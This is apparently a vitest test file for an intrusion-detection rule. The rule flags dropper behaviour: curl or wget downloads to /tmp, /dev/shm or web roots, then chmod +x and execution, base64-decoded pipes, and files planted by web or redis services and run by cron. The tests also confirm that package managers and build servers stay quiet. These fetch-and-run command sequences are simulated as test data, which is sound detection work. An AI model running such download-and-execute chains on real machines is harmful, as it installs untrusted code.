import { describe, expect, it } from 'vitest';
import { pipes, Machine } from '../../../test/machine.ts';
import { downloadRun } from './behaviour.ts';

const stage = (settings: Record<string, boolean | number> = {}): Machine => new Machine(downloadRun, { settings });

/** Fetches a file in a process below `parent`. */
function fetch(s: Machine, parent: number, file: string, cmdline = `curl -fsSo ${file} https://files.example/x`, ip = '198.51.100.7'): number {
  const curl = s.spawn(parent, '/usr/bin/curl', cmdline);
  s.connect(curl, ip, 443);
  s.file(curl, 'create', file);
  s.end(curl);
  return curl;
}

describe('a dropper', () => {
  it.each([
    ['web', '/tmp/x', 'critical'], ['web', '/var/www/html/x', 'critical'], ['cron', '/dev/shm/x', 'critical'], ['cron', '/tmp/x', 'high'], ['cron', '/usr/local/bin/x', 'medium'],
    ['login', '/tmp/.x/y', 'high'], ['login', '/tmp/x', 'low'], ['login', '/usr/local/bin/kubectl', undefined],
  ] as const)('from %s that runs %s', (from, file, level) => {
    const s = stage();
    const parent = s.spawn(from === 'web' ? s.worker() : from === 'cron' ? s.cron('x') : s.login(), '/usr/bin/dash', 'sh -c …');
    const curl = fetch(s, parent, file);
    s.file(s.spawn(parent, '/usr/bin/chmod', `chmod +x ${file}`), 'chmod', file, { extra: { mode: '755' } });
    s.spawn(parent, file);
    expect(s.levels).toEqual(level === undefined ? [] : [level]);
    if (level) expect(s.found[0]?.group).toMatchObject({ fetcher: `/usr/bin/curl[${curl}]`, peer: '198.51.100.7:443', file });
  });

  it.each([
    ['/usr/bin/bash', 'bash /tmp/x.sh', '/tmp/x.sh', 'high'], ['/usr/bin/dash', 'sh ./x.sh', '/root/x.sh', 'medium'], ['/usr/bin/python3.11', 'python3 -u /var/tmp/y.py 1', '/var/tmp/y.py', 'high'],
    ['/usr/bin/perl', 'perl /dev/shm/z', '/dev/shm/z', 'critical'], ['/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', '/lib64/ld-linux-x86-64.so.2 /tmp/x', '/tmp/x', 'high'], ['/bin/busybox', 'busybox sh /tmp/x', '/tmp/x', 'high'],
  ])('run by %s as %s', (path, cmdline, file, level) => {
    const s = stage();
    const parent = s.cron('x');
    fetch(s, parent, file);
    s.spawn(parent, path, cmdline);
    expect(s.levels).toEqual([level]);
  });

  it('that fetches by address is worse, also for a person', () => {
    const s = stage();
    const shell = s.login();
    fetch(s, shell, '/opt/x', 'wget http://198.51.100.7/x -O /opt/x');
    s.spawn(shell, '/opt/x');
    expect(s.levels).toEqual(['medium']);
  });

  it('by a pipe, by a redirection of the shell, by python itself, renamed before it runs', () => {
    const s = stage();
    const job = s.cron('x');
    const curl = s.spawn(job, '/usr/bin/curl', 'curl -s https://files.example/x', { extra: { stdout: 'pipe' } });
    const base64 = s.fork(job);
    s.file(base64, 'create', '/tmp/a');
    s.exec(base64, '/usr/bin/base64', 'base64 -d', { extra: pipes });
    s.connect(curl, '198.51.100.7', 443);
    s.spawn(job, '/tmp/a');
    const into = s.fork(job);
    s.file(into, 'create', '/tmp/b');
    s.exec(into, '/usr/bin/curl', 'curl -s https://files.example/x');
    s.connect(into, '198.51.100.7', 443);
    s.spawn(job, '/tmp/b');
    const python = s.spawn(job, '/usr/bin/python3.11', 'python3 /opt/job.py');
    s.connect(python, '198.51.100.7', 443);
    s.file(python, 'create', '/tmp/c.part');
    s.rename(s.spawn(python, '/usr/bin/mv', 'mv'), '/tmp/c.part', '/tmp/c');
    s.spawn(python, '/tmp/c');
    expect(s.found.map((d) => [d.level, d.group?.['file']])).toEqual([['high', '/tmp/a'], ['high', '/tmp/b'], ['high', '/tmp/c']]);
  });

  it('that only speaks to the machine itself counts when asked for', () => {
    for (const [local, n] of [[false, 0], [true, 1]] as const) {
      const s = stage({ local });
      const parent = s.cron('x');
      const curl = s.spawn(parent, '/usr/bin/curl', 'curl http://127.0.0.1:8000/x -o /tmp/x');
      s.connect(curl, '127.0.0.1', 8000);
      s.file(curl, 'create', '/tmp/x');
      s.spawn(parent, '/tmp/x');
      expect(s.levels).toHaveLength(n);
    }
  });
});

describe('what a server put down', () => {
  it('and cron or anybody runs, even much later', () => {
    const s = stage();
    s.file(s.worker(), 'create', '/var/www/html/uploads/x');
    s.file(s.daemon('redis-server', '/usr/bin/redis-server'), 'create', '/var/lib/redis/run.sh');
    s.later(6 * 3_600_000);
    s.spawn(s.cron('x'), '/var/www/html/uploads/x');
    s.spawn(s.cron('x'), '/usr/bin/bash', 'bash /var/lib/redis/run.sh');
    expect(s.levels).toEqual(['critical', 'critical']);
    expect(s.found[0]?.group).toMatchObject({ from_en: 'the web service php-fpm', origin_en: 'the cron job x of root' });
  });

  it('a site that updates itself and a build server are quiet', () => {
    const s = stage();
    s.file(s.worker(), 'create', '/var/www/html/wp-cron.php');
    s.spawn(s.cron('x'), '/usr/bin/php8.2', 'php /var/www/html/wp-cron.php');
    const jenkins = s.daemon('jenkins', '/usr/bin/java', 'java -jar jenkins.war');
    s.tell('listener', jenkins, { action: 'listener-start', protocol: 'tcp', destination_port: 8080 });
    s.file(jenkins, 'create', '/tmp/jenkins12.sh');
    s.spawn(jenkins, '/usr/bin/dash', 'sh -xe /tmp/jenkins12.sh');
    expect(s.levels).toEqual([]);
  });
});

it('git, npm, pip, apt, editors, agents that update themselves and local copies stay quiet', () => {
  const s = stage();
  const shell = s.login();
  const git = s.spawn(shell, '/usr/bin/git', 'git clone https://git.example/x');
  s.connect(git, '203.0.113.80', 443);
  s.file(git, 'create', '/home/wang/x/configure');
  s.spawn(shell, '/usr/bin/dash', '/bin/sh /home/wang/x/configure');
  const npm = s.spawn(shell, '/usr/bin/node', 'npm install esbuild');
  s.connect(npm, '203.0.113.80', 443);
  s.file(npm, 'create', '/home/wang/x/node_modules/esbuild/bin/esbuild');
  s.spawn(s.spawn(npm, '/usr/bin/dash', 'sh -c node install.js'), '/home/wang/x/node_modules/esbuild/bin/esbuild');
  s.spawn(shell, '/home/wang/x/node_modules/esbuild/bin/esbuild');
  const pip = s.spawn(s.cron('x'), '/usr/bin/python3.11', '/usr/bin/python3 -m pip install x');
  s.connect(pip, '203.0.113.80', 443);
  s.file(pip, 'create', '/srv/venv2/bin/x');
  s.spawn(s.cron('x'), '/srv/venv2/bin/x');
  const apt = s.spawn(shell, '/usr/bin/apt-get', 'apt-get install x');
  s.connect(apt, '203.0.113.80', 80);
  s.file(s.spawn(apt, '/usr/bin/dpkg', 'dpkg --unpack x.deb'), 'create', '/opt/x/bin/x');
  s.spawn(shell, '/opt/x/bin/x');
  const agent = s.daemon('agent', '/opt/agent/bin/agent');
  s.connect(agent, '203.0.113.80', 443);
  s.file(agent, 'create', '/opt/agent/bin/agent-2');
  s.spawn(agent, '/opt/agent/bin/agent-2');
  s.file(s.spawn(shell, '/usr/bin/gcc', 'gcc -o x x.c'), 'create', '/home/wang/y');
  s.spawn(shell, '/home/wang/y');
  // An old download by a job, run the day after.
  fetch(s, s.cron('x'), '/srv/z');
  s.later(7_200_000);
  s.spawn(s.cron('x'), '/srv/z');
  expect(s.found.map((d) => [d.level, d.key])).toEqual([]);
});
